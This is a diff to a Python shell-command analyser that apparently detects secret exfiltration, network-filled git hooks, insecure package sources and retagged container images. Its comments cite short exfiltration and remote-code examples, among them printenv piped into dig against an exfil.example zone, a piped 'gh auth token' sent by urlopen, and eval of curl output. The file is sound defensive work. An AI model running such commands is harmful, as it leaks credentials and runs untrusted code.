@@ -18,10 +18,33 @@ import re2
 from sidecar.code import analyse_code, code_invocations
 from sidecar.effects.catalogue import Catalogue, ParsedCommand, effects_of
 from sidecar.effects.hosts import host_of
+from sidecar.effects.image_names import shadowed_official
 from sidecar.effects.model import ENVIRONMENT, STDIN, UNRESOLVED, Action, Effect, Origin
 from sidecar.effects.own_endpoints import with_loopback_ports
+from sidecar.effects.package_sources import (
+    INSECURE,
+    PACKAGE_SOURCE,
+    UNTRUSTED,
+    command_findings,
+    findings,
+    is_source_variable,
+    kind_of,
+    merged,
+    variable_findings,
+    word_findings,
+)
 from sidecar.effects.paths import normalise
 from sidecar.effects.renames import mark_renames
+from sidecar.effects.secret_output import (
+    carried_by_words,
+    is_metadata_host,
+    is_secret_data,
+    presented_words,
+    printed_variables,
+    prints_secrets,
+    secret_data,
+    secret_variables,
+)
 from sidecar.shell.printing import printed_text
 from sidecar.shell.walk import ShellAnalysis, SimpleCommand, trusted_generator
 from sidecar.shell.walk import analyse as shell_analyse
@@ -61,6 +84,10 @@ class _Flow:
     outputs: dict[int, tuple[Origin, tuple[str, ...], str]] = field(default_factory=dict)
     cwd: str = ""  # where `cd` moved the line to, when known ("" = the call's own directory)
     trees: dict[str, Origin] = field(default_factory=dict)  # directory -> origin of all in it
+    # Secrets printed in the line (`printenv KEY | xxd -p | while read c; do dig $c.x`): the
+    # last ones printed, and the variables `read` filled with them.
+    secrets: tuple[str, ...] = ()
+    secret_variables: dict[str, tuple[str, ...]] = field(default_factory=dict)
 
 
 def line_effects(
@@ -79,6 +106,7 @@ def line_effects(
     spawned: list[ShellAnalysis] = []
     read_only = not analysis.problems and not analysis.parse_error
     for command in analysis.commands:
+        effects.extend(_source_settings(command, catalogue))
         if command.program in _BOOKKEEPING and not _prints_variables(command):
             continue
         found, known, quiet = _command_effects(command, catalogue, flow)
@@ -87,6 +115,7 @@ def line_effects(
         if code_effects is not None:
             found.extend(code_effects(command))
         code_found, code_problems = _interpreted(command, catalogue, flow, depth, spawned)
+        code_found = _fed_secrets_sent(command, code_found, catalogue, flow)
         if code_found or code_problems:
             if flow.cwd:
                 code_found = [rebased(effect, flow.cwd) for effect in code_found]
@@ -102,13 +131,53 @@ def line_effects(
         effects.extend(found)
     read_only = read_only and bool(effects or analysis.commands)
     return LineEffects(
-        tuple(effects),
+        tuple(_filled_later(effects, flow)),
         tuple(dict.fromkeys(unknown)),
         read_only,
         tuple(dict.fromkeys(problems)),
         flow.cwd,
         tuple(spawned),
     )
+
+
+def _fed_secrets_sent(
+    command: SimpleCommand, found: list[Effect], catalogue: Catalogue, flow: _Flow
+) -> list[Effect]:
+    """Code fed a secret on standard input that sends data it does not name (`gh auth token
+    | python3 -c '...urlopen(URL, sys.stdin.read())'`) may send the secret."""
+    if command.input_from is None or not any(e.action is Action.SEND for e in found):
+        return found
+    fed = tuple(s for s in _input_of(command, catalogue, flow)[1] if is_secret_data(s))
+    if not fed:
+        return found
+    return [
+        e._replace(data=tuple(dict.fromkeys(e.data + fed)))
+        if e.action is Action.SEND and ("unresolved" in e.flags or not e.data or "?" in e.data)
+        else e
+        for e in found
+    ]
+
+
+def _filled_later(effects: list[Effect], flow: _Flow) -> list[Effect]:
+    """Hooks run later: a hooks or template directory set first and filled from the network
+    later in the line (`git config init.templateDir d && curl ... | tar x -C d`) is code
+    from the network, as if filled first."""
+    found = effects
+    for index, effect in enumerate(effects):
+        if (
+            effect.action is Action.PERSIST
+            and "hooks_path" in effect.flags
+            and effect.origin is Origin.NONE
+        ):
+            produced = _file_origin(effect.target, flow)
+            inside = effect.target.rstrip("/") + "/"
+            below = [o for path, o in flow.origins.items() if path.startswith(inside)]
+            if below:  # wget -O dir/hooks/post-checkout URL
+                produced = _strongest([produced, *below])
+            if produced is not Origin.FILE and produced is not Origin.NONE:
+                found = list(found) if found is effects else found
+                found[index] = effect._replace(origin=produced)
+    return found
 
 
 _CHANGES_DIRECTORY = frozenset({"cd", "pushd", "chdir"})
@@ -315,6 +384,10 @@ def _command_effects(
             )  # fmt: skip
     if command.program in _ENV_PRINTERS and not command.positionals:
         output_sources = (ENVIRONMENT,)
+    secrets = _printed_secrets(command, parsed, program, args, found, input_sources, flow)
+    if secrets:
+        output_sources = tuple(dict.fromkeys((*output_sources, *secrets)))
+        flow.secrets = secrets
     if parsed is not None and _runs_dynamic_code(command, parsed):
         # `bash -c "$X"` with X=$(curl ...), `eval "$(curl ...)"`: the code is what feeds it.
         found.append(Effect(Action.EXECUTE, STDIN, program=command.program))
@@ -337,6 +410,13 @@ def _command_effects(
             for e in found
         ]
     found = [_with_flow(effect, flow, input_origin, input_sources, input_text) for effect in found]
+    if parsed is not None and (
+        flow.secrets
+        or any(map(is_secret_data, input_sources))
+        or (any(e.action in _NETWORK for e in found) and _substitutes(command.args))
+    ):
+        found = _secret_sends(command, parsed, found, input_sources, flow, catalogue)
+    found = _package_edits(command, found, catalogue)
     read_here = tuple(e.target for e in found if e.action is Action.READ)
     if read_here:  # tar czf k.tgz ~/.ssh: the archive carries what it read
         found = [
@@ -408,6 +488,253 @@ def _secrets_sent(
     return found
 
 
+_STDIN_PRESENTS = frozenset(
+    {"--password-stdin", "--with-token", "--token-stdin", "--stdin-token", "--secret-stdin"}
+)  # docker login --password-stdin, gh auth login --with-token: a credential used as such
+_LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "getent", "delv"})
+
+
+def _printed_secrets(
+    command: SimpleCommand,
+    parsed: ParsedCommand | None,
+    program: str,
+    args: tuple[str, ...],
+    found: Sequence[Effect],
+    input_sources: tuple[str, ...],
+    flow: _Flow,
+) -> tuple[str, ...]:
+    """The secret markers a command's output carries: what it prints itself (the catalogue's
+    `prints_secrets`, `printenv KEY`, `echo $TOKEN`, an instance-metadata answer) and the
+    secrets it was fed (a filter does not make a secret harmless)."""
+    markers = [item for item in input_sources if is_secret_data(item)]
+    if parsed is not None:
+        spec = parsed.spec
+        if spec.prints_secrets and prints_secrets(
+            spec.prints_secrets, parsed.named, " ".join((program, *args))
+        ):
+            markers.append(secret_data(spec.name))
+        if spec.output in ("literal", "printf"):
+            markers.extend(secret_data("$" + name) for name in secret_variables(command.args))
+    markers.extend(secret_data("$" + name) for name in printed_variables(program, args))
+    if any(e.action is Action.FETCH and is_metadata_host(e.target) for e in found):
+        markers.append(secret_data("the instance metadata service"))
+    if command.program == "read" and flow.secrets and command.input_from is None:
+        # `... | while read -r c; do ...`: the loop reads what the line printed last.
+        for name in command.positionals:
+            if type(name) is str and name.isidentifier():
+                flow.secret_variables[name] = flow.secrets
+    return tuple(dict.fromkeys(markers))
+
+
+def _secret_sends(
+    command: SimpleCommand,
+    parsed: ParsedCommand,
+    found: list[Effect],
+    input_sources: tuple[str, ...],
+    flow: _Flow,
+    catalogue: Catalogue,
+) -> list[Effect]:
+    """Where a secret printed in the line leaves the machine: in a URL, a body, a DNS name
+    built from it, piped into a socket. A credential presented as such (an auth header,
+    `--password-stdin`) to the service it talks to is its use, not a leak."""
+    fed = tuple(item for item in input_sources if is_secret_data(item))
+    presented = presented_words(parsed.options)
+    dynamic = [w for w in command.args if type(w) is not str or "$(" in w or "`" in w]
+    through_words = carried_by_words(command.args, presented)
+    carried: list[str] = []
+    if fed and ((dynamic and not through_words) or not _STDIN_PRESENTS.isdisjoint(parsed.options)):
+        # The secret reaches the command only where it is presented: its use.
+        found = [_without_secrets(e) if e.action is Action.SEND else e for e in found]
+    elif fed and through_words:
+        carried.extend(fed)  # in a URL, a body or a field, not just a header
+    elif fed and not any(e.action is Action.SEND and set(fed) & set(e.data) for e in found):
+        # `... | socat - TCP:h:443`, `| openssl s_client`: a raw connection sends its input.
+        connections = [
+            e.target for e in found if e.action is Action.CONNECT and e.target not in (STDIN, "")
+        ]
+        found.extend(
+            Effect(Action.SEND, host, data=fed, flags=_SECRET_IN_REQUEST, program=command.program)
+            for host in connections
+        )
+    zones: list[str] = []
+    for word in dynamic:
+        if word in presented:
+            continue
+        markers = list(_substituted_secrets(word, catalogue, flow))
+        for name, tainted in flow.secret_variables.items():
+            if "$" + name in word or "${" + name in word:
+                markers.extend(tainted)
+        if markers:
+            carried.extend(markers)
+            zone = _static_zone(word) if command.program in _LOOKUPS else ""
+            if zone:
+                zones.append(zone)
+    if not carried:
+        return found
+    data = tuple(dict.fromkeys(carried))
+    hosts = zones or [
+        e.target for e in found if e.action in _NETWORK and "$" not in e.target and e.target
+    ]
+    for host in dict.fromkeys(hosts):
+        found.append(
+            Effect(Action.SEND, host, data=data, flags=_SECRET_IN_REQUEST, program=command.program)
+        )
+    return found
+
+
+_MAX_SUBSTITUTIONS = 8
+_MAX_SUBSTITUTION_TEXT = 4096
+
+
+def _substituted_secrets(word: str, catalogue: Catalogue, flow: _Flow) -> tuple[str, ...]:
+    """Secrets printed by the commands inside a word's `$(...)` or backticks (the walk links
+    only a word's first substitution to the command)."""
+    markers: list[str] = []
+    for inner in _substitutions(word):
+        for nested in shell_analyse(inner).commands:
+            markers.extend(
+                m for m in _output_with_secrets(nested, catalogue, flow)[1] if is_secret_data(m)
+            )
+    return tuple(dict.fromkeys(markers))
+
+
+def _substitutions(word: str) -> list[str]:
+    """The texts of `$(...)` (balanced) and backtick substitutions in a word, bounded."""
+    found: list[str] = []
+    index = 0
+    text = word[:_MAX_SUBSTITUTION_TEXT]
+    while len(found) < _MAX_SUBSTITUTIONS:
+        dollar = text.find("$(", index)
+        tick = text.find("`", index)
+        if dollar < 0 and tick < 0:
+            break
+        if tick < 0 or (0 <= dollar < tick):
+            depth, end = 0, dollar + 1
+            while end < len(text):
+                if text[end] == "(":
+                    depth += 1
+                elif text[end] == ")":
+                    depth -= 1
+                    if depth == 0:
+                        break
+                end += 1
+            found.append(text[dollar + 2 : end])
+            index = end + 1
+        else:
+            close = text.find("`", tick + 1)
+            if close < 0:
+                break
+            found.append(text[tick + 1 : close])
+            index = close + 1
+    return found
+
+
+def _without_secrets(effect: Effect) -> Effect:
+    kept = tuple(item for item in effect.data if not is_secret_data(item))
+    return effect if len(kept) == len(effect.data) else effect._replace(data=kept)
+
+
+def _static_zone(word: str) -> str:
+    """`$c.q.exfil.example` is looked up in the zone q.exfil.example: what it sends goes there."""
+    match = _ZONE.search(word)
+    return match.group(1).strip(".").lower() if match else ""
+
+
+# The static domain after the last run-time part of a name: `${c}.q.exfil.example`.
+_ZONE = re2.compile(r"(?:\$\{?[A-Za-z0-9_]+\}?|\$\([^)]*\)|`[^`]*`)((?:\.[A-Za-z0-9-]+)+)\.?$")
+
+
+_SECRET_IN_REQUEST = frozenset({"secret_in_request"})
+
+
+def _substitutes(args: tuple[str, ...]) -> bool:
+    return any(type(w) is not str and ("$(" in w or "`" in w) for w in args)
+
+
+_ENVIRONMENT_TARGET = "(environment)"
+_SETTINGS = frozenset({PACKAGE_SOURCE, "config"})
+_RISKY_SOURCES = frozenset({UNTRUSTED, INSECURE})
+_IMAGE_RETAG = frozenset({"official_image_shadowed"})
+
+
+def _source_settings(command: SimpleCommand, catalogue: Catalogue) -> list[Effect]:
+    """Package sources chosen by variables (`export PIP_INDEX_URL=...`, `GOFLAGS=-insecure go
+    get ...`, `GIT_SSL_NO_VERIFY=1 git clone`) or by git's `-c` settings for one command."""
+    words = command.args if command.program in _BOOKKEEPING else command.environment
+    found: list[Effect] = []
+    for word in words:
+        name, equals, value = word.partition("=")
+        if not equals or not is_source_variable(name):
+            continue
+        judged = variable_findings(name, value, catalogue.trusted_index)
+        flags = judged.flags(known=False)
+        if flags & _RISKY_SOURCES:
+            found.append(
+                Effect(Action.WRITE, _ENVIRONMENT_TARGET, flags=flags | _SETTINGS,
+                       program=command.program, data=judged.untrusted + judged.insecure)
+            )  # fmt: skip
+    shadowed = shadowed_official(command.program, command.positionals)
+    if shadowed is not None:  # docker tag x/library-mirror/node:20 node:20
+        found.append(
+            Effect(Action.WRITE, f"image {shadowed[1]}", flags=_IMAGE_RETAG,
+                   program=command.program, data=(shadowed[0],))
+        )  # fmt: skip
+    if command.program == "git" and "-c" in command.args:
+        settings = [
+            command.args[i + 1].replace("=", " ", 1)
+            for i, word in enumerate(command.args[:-1])
+            if word == "-c" and type(command.args[i + 1]) is str
+        ]
+        judged = findings("~/.gitconfig", "\n".join(settings), catalogue.trusted_index)
+        flags = judged.flags(known=False)
+        if flags & _RISKY_SOURCES:
+            found.append(
+                Effect(Action.WRITE, "(git -c)", flags=flags | _SETTINGS, program="git",
+                       data=judged.untrusted + judged.insecure)
+            )  # fmt: skip
+    return found
+
+
+def _package_edits(
+    command: SimpleCommand, found: list[Effect], catalogue: Catalogue
+) -> list[Effect]:
+    """A package configuration, lockfile or manifest changed by a command whose result is
+    not known (`sed -i`, `cp`, `curl -o`): the hosts its words name may be its new sources."""
+    result = found
+    for index, effect in enumerate(found):
+        if (
+            effect.action is not Action.WRITE
+            or effect.content
+            or PACKAGE_SOURCE in effect.flags
+            or not (kind_of(effect.target) or "config" in effect.flags)
+        ):
+            continue
+        words = [w for w in command.args if type(w) is str]
+        if "config" in effect.flags:  # a settings command: its words are the whole change
+            flags = command_findings(effect.target, words, catalogue.trusted_index).flags()
+        else:  # `echo ... | tee -a pip.conf`, `tee f <<< ...`: what is fed in is written
+            fed = _fed_text(command)
+            flags = merged(
+                findings(effect.target, fed, catalogue.trusted_index),
+                word_findings(words + fed.split(), catalogue.trusted_index),
+            ).flags(known=False)
+        if result is found:
+            result = list(found)
+        result[index] = effect._replace(flags=effect.flags | flags | {PACKAGE_SOURCE})
+    return result
+
+
+def _fed_text(command: SimpleCommand) -> str:
+    """The here-document or here-string fed to a command, and the words of the commands
+    piped into it (`printf 'a\\nb' | tee f`), as text."""
+    parts = [command.stdin_text] if command.stdin_text else []
+    source, depth = command.input_from, 0
+    while source is not None and depth < 4:
+        parts.extend(w for w in source.args if type(w) is str and not w.startswith("-"))
+        source, depth = source.input_from, depth + 1
+    return "\n".join(parts).replace("\\n", "\n")[:65536]
+
+
 def _trusted_indexes(
     found: list[Effect], parsed: ParsedCommand, catalogue: Catalogue
 ) -> list[Effect]:
@@ -466,6 +793,25 @@ def _output_of(
     return Origin.UNKNOWN, (), ""
 
 
+def _output_with_secrets(
+    command: SimpleCommand, catalogue: Catalogue, flow: _Flow, depth: int = 0
+) -> tuple[Origin, tuple[str, ...], str]:
+    """What a producer the line has not been through prints, with the secrets in it."""
+    if depth > 8:
+        return Origin.UNKNOWN, (), ""
+    origin, sources, text = _output_of(command, catalogue, flow, depth)
+    program, args = _module_as_program(command)
+    parsed = catalogue.parse(program, args)
+    fed: tuple[str, ...] = ()
+    if command.input_from is not None:
+        fed = _output_with_secrets(command.input_from, catalogue, flow, depth + 1)[1]
+    effects = effects_of(parsed, program, args, Origin.NONE) if parsed is not None else []
+    secrets = _printed_secrets(command, parsed, program, args, effects, fed, _Flow())
+    if secrets:
+        sources = tuple(dict.fromkeys((*sources, *secrets)))
+    return origin, sources, text
+
+
 def _input_of(
     command: SimpleCommand, catalogue: Catalogue, flow: _Flow
 ) -> tuple[Origin, tuple[str, ...], str]:
@@ -473,7 +819,7 @@ def _input_of(
     if source is not None:
         known = flow.outputs.get(id(source))
         if known is None:
-            known = _output_of(source, catalogue, flow)
+            known = _output_with_secrets(source, catalogue, flow)
         origin, sources, text = known
         # What an arbitrary program prints is not known in advance.
         return (origin if origin is not Origin.NONE else Origin.UNKNOWN), sources, text
